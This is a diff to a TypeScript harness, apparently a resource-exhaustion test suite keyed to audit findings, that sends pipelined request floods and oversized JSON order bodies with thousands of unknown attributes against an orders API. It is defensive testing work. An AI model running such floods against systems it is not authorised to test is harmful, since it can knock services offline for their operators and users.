@@ -1,6 +1,6 @@
 import { gzipSync } from 'node:zlib';
 import type { Arm, Attack } from './attack.ts';
-import { endOf, signed } from './attack.ts';
+import { countAnswers, endOf, signed } from './attack.ts';
 
 const smallest = 'GET / HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(2_000);
 const gzip = { 'content-encoding': 'gzip' };
@@ -15,19 +15,25 @@ const variables = (place: number): Buffer =>
       variables: { f: long },
     }),
   );
-const names = Array.from({ length: 19_900 }, (_, place) => `"n${String(place)}":1`).join(',');
+/** Attributes that nobody knows. */
+const unknown = (count: number, end = ''): string =>
+  Array.from({ length: count }, (_, place) => `"n${String(place)}${end}":1`).join(',');
+const names = unknown(19_900);
 
-const largest = `{"order":{"a":[${`"${'x'.repeat(40)}",`.repeat(19_000)}1]}}`;
+/** The customer's order with its one line nineteen times, each with as many attributes as an object may have. */
+async function largest({ prepare, target }: Arm): Promise<string> {
+  const headers = { 'x-serviceapikey': target.key };
+  const { text } = await prepare('GET', `/api/orders/${target.order}`, { headers });
+  const [, id] = /"line_items":\[\{"id":(\d+)/.exec(text) ?? [];
+  if (!id) throw new Error(`No order with a line: ${text}`);
+  const line = `{"id":${id},${unknown(999, 'x'.repeat(33))}}`;
+  return `{"order":{"line_items":[${Array<string>(19).fill(line).join(',')}]}}`;
+}
 
 /** Sends a request over a connection five times at once, and again whenever one is answered. */
 async function keepFive(arm: Arm, request: string): Promise<void> {
   const socket = arm.connect();
-  socket.on('data', (chunk: Buffer) => {
-    for (const [, status] of chunk.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3}) /g)) {
-      arm.count(Number(status));
-      socket.write(request);
-    }
-  });
+  countAnswers(arm, socket, () => socket.write(request));
   socket.resume().write(request.repeat(5));
   await endOf(socket);
 }
@@ -110,11 +116,13 @@ export const attacksOfCrowds: readonly Attack[] = [
   {
     finding: '3',
     does: '16 connections send bodies of 0.8 MB and 19,000 values without a pause',
-    reaches: 422,
-    strike: (arm) =>
-      arm.crowd(16, () =>
-        arm.ask('PUT', `/api/orders/${arm.target.order}`, { headers: signed(arm), body: largest }),
-      ),
+    reaches: 200,
+    strike: async (arm) => {
+      const body = await largest(arm);
+      return arm.crowd(16, () =>
+        arm.ask('PUT', `/api/orders/${arm.target.order}`, { headers: signed(arm), body }),
+      );
+    },
   },
   {
     finding: '1',
@@ -140,7 +148,7 @@ export const attacksOfCrowds: readonly Attack[] = [
   {
     finding: '3',
     does: '19,900 attributes that nobody knows, 20 times a second',
-    reaches: 422,
+    reaches: 400,
     strike: (arm) =>
       arm.pace(20, () =>
         arm.ask('PUT', `/api/orders/${arm.target.order}`, {
